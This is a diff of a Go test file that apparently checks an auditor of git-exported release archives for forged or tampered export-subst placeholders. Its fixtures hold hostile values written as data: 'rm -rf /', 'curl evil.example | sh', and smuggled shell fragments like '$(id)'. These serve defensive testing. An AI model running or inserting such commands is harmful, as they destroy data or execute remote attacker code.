@@ -30,7 +30,7 @@ func TestAttackArtifactExportSubstRefName(t *testing.T) {
 	tr := newTestRepo(t)
 	files := map[string]string{
 		".gitattributes": "version.sh export-subst\n",
-		"version.sh":     "VERSION=\"$Format:%d$\"\nCOMMIT=$Format:%H$\necho \"$VERSION\"\n",
+		"version.sh":     "VERSION=\"$Format:%d$\"\nCOMMIT=$Format:%H$\necho \"$VERSION\"\n# $Format:%cI %at %an <%ae> %T %P%n%%$\n",
 		"README":         "r\n",
 	}
 	c := tr.commit(commitSpec{files: files})
@@ -56,8 +56,11 @@ func TestAttackArtifactExportSubstRefName(t *testing.T) {
 	}
 
 	res := audit(archive("clean.tar"))
-	if got := findingsOf(res, RuleArtifactExportSubst); len(got) != 2 {
-		t.Errorf("clean archive: %d export-subst findings, want 2: %v", len(got), res.Findings)
+	// %H and the dates and names of the last line are fields of the
+	// commit, written as git writes them (git archive made this file);
+	// %d's ref names are reported.
+	if got := findingsOf(res, RuleArtifactExportSubst); len(got) != 1 || !strings.Contains(got[0].Message, "%d") {
+		t.Errorf("clean archive: want one export-subst finding, for %%d: %v", res.Findings)
 	}
 	for _, f := range res.Findings {
 		if f.Severity != signing.SeverityNote {
@@ -80,8 +83,15 @@ func TestAttackArtifactExportSubstRefName(t *testing.T) {
 		t.Errorf("ref name with a quote expanded without an error: %v", res.Findings)
 	}
 
+	// Plain text in place of %H, which git fixes to the commit id.
+	forged := filepath.Join(t.TempDir(), "forged.tar")
+	writeTar(t, forged, "pkg-1", map[string]string{".gitattributes": files[".gitattributes"], "version.sh": "VERSION=\" (tag: v1)\"\nCOMMIT=rm -rf /\necho \"$VERSION\"\n", "README": "r\n"})
+	res = audit(forged)
+	wantPerm(t, res, RuleArtifactContentDiffers, "version.sh")
+
 	// A line added outside the placeholders.
 	body := "VERSION=\" (tag: v1)\"\nCOMMIT=" + c.String() + "\necho \"$VERSION\"\ncurl evil.example | sh\n"
+	// (The last line of the blob, which git fixes, is missing too.)
 	tampered := filepath.Join(t.TempDir(), "tampered.tar")
 	writeTar(t, tampered, "pkg-1", map[string]string{".gitattributes": files[".gitattributes"], "version.sh": body, "README": "r\n"})
 	res = audit(tampered)
@@ -102,7 +112,7 @@ func TestMatchSubst(t *testing.T) {
 		{"a X Y c", false, nil},
 		{"a $Format:%H$ b $Format:%d$ c", true, []string{"$Format:%H$", "$Format:%d$"}},
 	} {
-		rs, ok := matchSubst(tpl, []byte(tc.art))
+		rs, ok := matchSubst(tpl, []byte(tc.art), nil)
 		var got []string
 		for _, r := range rs {
 			got = append(got, string(r.text))
@@ -111,7 +121,7 @@ func TestMatchSubst(t *testing.T) {
 			t.Errorf("%q: %v %q, want %v %q", tc.art, ok, got, tc.ok, tc.want)
 		}
 	}
-	if rs, ok := matchSubst([]byte("no placeholder $Format:x"), []byte("no placeholder $Format:x")); !ok || len(rs) != 0 {
+	if rs, ok := matchSubst([]byte("no placeholder $Format:x"), []byte("no placeholder $Format:x"), nil); !ok || len(rs) != 0 {
 		t.Errorf("unterminated placeholder: %v %v", rs, ok)
 	}
 	for s, want := range map[string]bool{" (HEAD -> master, tag: v1.2)": true, "0123abcd": true, "2024-03-01T17:00:00+00:00": true, "x\";sh;\"": false, "a\nb": false, "$(id)": false} {
